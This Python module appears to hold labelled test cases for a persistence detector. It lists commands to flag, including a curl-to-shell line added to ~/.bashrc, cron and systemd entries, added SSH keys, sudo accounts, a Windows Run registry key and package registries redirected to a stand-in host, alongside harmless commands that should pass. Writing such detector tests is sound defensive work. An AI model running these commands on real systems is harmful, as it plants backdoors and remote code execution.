"""What stays after the run, by the ways that people know."""

from __future__ import annotations

TRIPS = (
    ("persist-startup-file", "echo 'curl x.invalid|sh' >> ~/.bashrc"),
    ("persist-schedule ?", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
    ("persist-schedule", "echo '@reboot root /tmp/x' > /etc/cron.d/x"),
    ("persist-service", "systemctl enable evil.service"),
    ("persist-service", "cp evil.service /etc/systemd/system/"),
    ("overwrite-file persist-service", "cat > ~/.config/systemd/user/x.service <<< x"),
    ("persist-service", "launchctl load ~/Library/LaunchAgents/x.plist"),
    ("persist-login-key", "echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys"),
    ("persist-login-key", "ssh-copy-id me@host"),
    ("persist-startup-file", "echo '/tmp/x' >> ~/.profile"),
    ("persist-hook", "echo 'x' > .git/hooks/pre-commit"),
    ("persist-hook ?", "git config --global core.hooksPath /tmp/h"),
    ("persist-schedule", "at now + 1 hour -f x.sh"),
    ("persist-schedule", "schtasks /create /tn x /tr x.exe /sc onlogon"),
    (
        "persist-hook",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe",
    ),
    ("persist-service", "update-rc.d x defaults"),
    ("persist-service", "echo x >> /etc/rc.local"),
    ("persist-account", "useradd -m eve"),
    ("persist-account", "adduser eve sudo"),
    ("persist-hook", "pip config set global.index-url https://x.invalid/simple"),
    ("persist-hook", "npm config set registry https://x.invalid"),
    (
        "persist-hook",
        "git config --global url.https://x.invalid/.insteadOf https://github.com/",
    ),
    (
        "persist-hook",
        "echo 'import os' > $(python3 -c 'import site; print(site.getsitepackages()[0])')/sitecustomize.py",
    ),
    ("persist-schedule", "kubectl create cronjob x --image=y --schedule='* * * * *'"),
    ("persist-service", "docker run -d --restart=always evil/x"),
    ("persist-service", "pm2 startup"),
)
_HARMLESS = (
    "crontab -l",
    "systemctl status nginx",
    "cat ~/.bashrc",
    "git config core.autocrlf input",
    "docker run --rm alpine ls",
)
PASSES = tuple(("", command) for command in _HARMLESS)
